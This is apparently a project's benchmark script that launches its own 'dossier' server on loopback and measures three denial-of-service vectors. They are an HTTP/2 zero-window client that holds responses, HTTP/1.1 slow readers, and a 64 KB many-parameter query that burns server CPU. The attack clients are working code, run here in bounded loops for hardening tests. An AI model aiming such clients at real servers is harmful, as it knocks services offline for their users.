#!/usr/bin/env python3
"""Measures the first three rows of the hardening issue against a running binary: what one
anonymous client can pin (RSS, connections held, seconds) and what one hostile query costs
(server CPU per request). Loopback only; every loop is bounded in count and time.

    python3 benches/attack.py --binary target/release/dossier [--hold 60]

Needs the `h2` package (pip install h2) for the HTTP/2 zero-window client.
"""

import argparse
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request

import h2.config
import h2.connection
import h2.settings

PAGE_BYTES = 900_000


def make_site(root):
    """The sample company with one page of about 0.9 MB."""
    here = os.path.dirname(os.path.abspath(__file__))
    content = os.path.join(root, "content")
    shutil.copytree(os.path.join(here, "..", "content"), content)
    words = ("dossier serves a company's facts to agents " * 25000)[:PAGE_BYTES]
    with open(os.path.join(content, "pages", "huge.md"), "w") as f:
        f.write("+++\ntitle = \"Huge\"\nsummary = \"A very long page\"\n+++\n\n# Huge\n\n" + words + "\n")
    return content


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    ticks = os.sysconf("SC_CLK_TCK")
    return (int(fields[11]) + int(fields[12])) / ticks


def open_connections(metrics):
    text = urllib.request.urlopen(f"http://{metrics}/metrics", timeout=5).read().decode()
    match = re.search(r"^dossier_open_connections (\d+)", text, re.M)
    return int(match.group(1)) if match else -1


def h2_zero_window(port, requests, slug):
    """An h2c connection with SETTINGS_INITIAL_WINDOW_SIZE = 0 and `requests` MCP get_page
    calls, never a WINDOW_UPDATE."""
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.local_settings = h2.settings.Settings(client=True, initial_values={
        h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0,
        h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100,
    })
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                       "params": {"name": "get_page", "arguments": {"slug": slug}}}).encode()
    for _ in range(requests):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, [
            (":method", "POST"), (":path", "/mcp"), (":scheme", "http"),
            (":authority", f"127.0.0.1:{port}"), ("content-type", "application/json"),
            ("accept", "application/json, text/event-stream"),
            ("mcp-protocol-version", "2025-06-18"),
            ("content-length", str(len(body)))])
        conn.send_data(stream, body, end_stream=True)
    sock.sendall(conn.data_to_send())
    return [sock, conn, b""]


def h2_closed(attacker):
    """True once the server has closed the connection. Meanwhile the client acknowledges
    every PING and SETTINGS frame like a live peer (also after GOAWAY, where a careful client
    library would stop), but never sends a WINDOW_UPDATE."""
    sock = attacker[0]
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(1 << 16)
            if not data:
                return True
            attacker[2] += data
            buffer = attacker[2]
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[0:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags, payload = buffer[3], buffer[4], buffer[9:9 + length]
                if kind == 6 and not flags & 1:  # PING: answer it
                    sock.sendall(b"\x00\x00\x08\x06\x01\x00\x00\x00\x00" + payload)
                elif kind == 4 and not flags & 1:  # SETTINGS: acknowledge it
                    sock.sendall(b"\x00\x00\x00\x04\x01\x00\x00\x00\x00")
                buffer = buffer[9 + length:]
            attacker[2] = buffer
    except BlockingIOError:
        return False
    except OSError:
        return True


def slow_reader(port, slug):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", port))
    request = f"GET /{slug} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
    sock.sendall(request * 8)
    return sock


def held(sockets, seconds, check):
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        if all(check(s) for s in sockets):
            return time.monotonic() - start
        time.sleep(0.5)
    return None


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--binary", default="target/release/dossier")
    parser.add_argument("--hold", type=float, default=60.0, help="longest wait, seconds")
    args = parser.parse_args()
    root = tempfile.mkdtemp()
    content = make_site(root)
    port, metrics_port = free_port(), free_port()
    metrics = f"127.0.0.1:{metrics_port}"
    server = subprocess.Popen(
        [args.binary, "serve", "--content", content, "--state", os.path.join(root, "state"),
         "--addr", f"127.0.0.1:{port}", "--access-log", "off", "--no-watch",
         "--metrics-addr", metrics, "--workers", "2"],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        server.stdout.readline()
        base = f"http://127.0.0.1:{port}"
        time.sleep(2)
        slug = "huge"
        print(f"page: {len(urllib.request.urlopen(f'{base}/{slug}').read())} bytes")

        # Row 1: two h2c connections, zero window, 40 get_page calls each.
        before = rss_mib(server.pid)
        attackers = [h2_zero_window(port, 40, slug) for _ in range(2)]
        time.sleep(5)
        during = rss_mib(server.pid)
        lasted = held(attackers, args.hold, h2_closed)
        print(f"h2 zero window: RSS {before:.0f} -> {during:.0f} MiB after 5 s; "
              f"connections closed after {lasted and round(lasted + 5)} s "
              f"(None: still open after {args.hold + 5:.0f} s)")
        for s, _, _ in attackers:
            s.close()
        time.sleep(1)

        # Row 2: four HTTP/1.1 connections, 8 pipelined GETs each, a 4 KB receive buffer.
        open_before = open_connections(metrics)
        readers = [slow_reader(port, slug) for _ in range(4)]
        time.sleep(2)
        open_during = open_connections(metrics)
        start = time.monotonic()
        while time.monotonic() - start < args.hold and open_connections(metrics) > open_before:
            time.sleep(0.5)
        remaining = open_connections(metrics) - open_before
        print(f"HTTP/1 slow readers: {open_during - open_before} counted open; "
              f"{remaining} still open after {time.monotonic() - start + 2:.0f} s")
        for s in readers:
            s.close()

        # Row 3: GET /api/company? with 16,992 distinct parameters (64 KB), for 5 s.
        query = "&".join(f"{i:x}" for i in range(16_992))[:64_000]
        request = f"GET /api/company?{query} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
        cpu_before = cpu_seconds(server.pid)
        statuses = set()
        count = 0
        start = time.monotonic()
        while time.monotonic() - start < 5 and count < 5000:
            count += 1
            with socket.create_connection(("127.0.0.1", port)) as s:
                s.sendall(request)
                answer = s.recv(200)
                statuses.add(answer.split(b" ", 2)[1].decode() if answer else "closed")
        cpu = (cpu_seconds(server.pid) - cpu_before) / count
        print(f"64 KB query: {cpu * 1000:.2f} ms of server CPU per request over {count} requests "
              f"(status {sorted(statuses)})")
    finally:
        server.terminate()
        server.wait()
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
